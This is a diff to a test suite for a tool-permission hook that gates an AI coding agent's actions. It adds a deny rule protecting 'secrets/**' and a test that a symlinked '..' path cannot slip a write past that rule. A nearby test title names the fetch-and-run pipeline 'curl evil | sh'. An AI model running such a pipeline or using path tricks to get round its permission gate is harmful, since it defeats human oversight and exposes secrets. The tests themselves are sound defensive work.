@@ -160,7 +160,7 @@ describe('toolgate hook claude-code', () => {
   });
 
   it('denies by a deny rule without asking anyone', async () => {
-    const { running, dirs } = await open({ userPolicy: { deny: ['shell_exec(git push *)'] } });
+    const { running, dirs } = await open({ userPolicy: { deny: ['shell_exec(git push *)', 'write_file(secrets/**)'] } });
     let prompted = 0;
     running.backend.subscribe('approvalRequested', () => prompted++);
     const { answer } = await runHook(dirs.home, fixture('pre-bash.json', dirs.workspace, (input) => (input.tool_input.command = 'git push origin main')));
@@ -168,6 +168,15 @@ describe('toolgate hook claude-code', () => {
     expect(answer.hookSpecificOutput?.permissionDecisionReason).toContain('git push');
     expect(prompted).toBe(0);
     expect(auditKinds(lastCall(running, 'Bash').records)).toEqual(['invoked', 'policy', 'rejected']);
+
+    // A `..` after a symlink is judged where the kernel takes it: sub/link/../key.txt is secrets/key.txt.
+    mkdirSync(join(dirs.workspace, 'secrets/inner'), { recursive: true });
+    mkdirSync(join(dirs.workspace, 'sub'));
+    symlinkSync(join(dirs.workspace, 'secrets/inner'), join(dirs.workspace, 'sub/link'));
+    const write = await runHook(dirs.home, fixture('pre-write.json', dirs.workspace, (input) => (input.tool_input.file_path = `${dirs.workspace}/sub/link/../key.txt`)));
+    expect(write.answer.hookSpecificOutput?.permissionDecision).toBe('deny');
+    expect(write.answer.hookSpecificOutput?.permissionDecisionReason).toContain('write_file(secrets/**)');
+    expect(prompted).toBe(0);
   });
 
   it('judges a Bash line part by part: an allow for `git status` does not carry `curl evil | sh`', async () => {
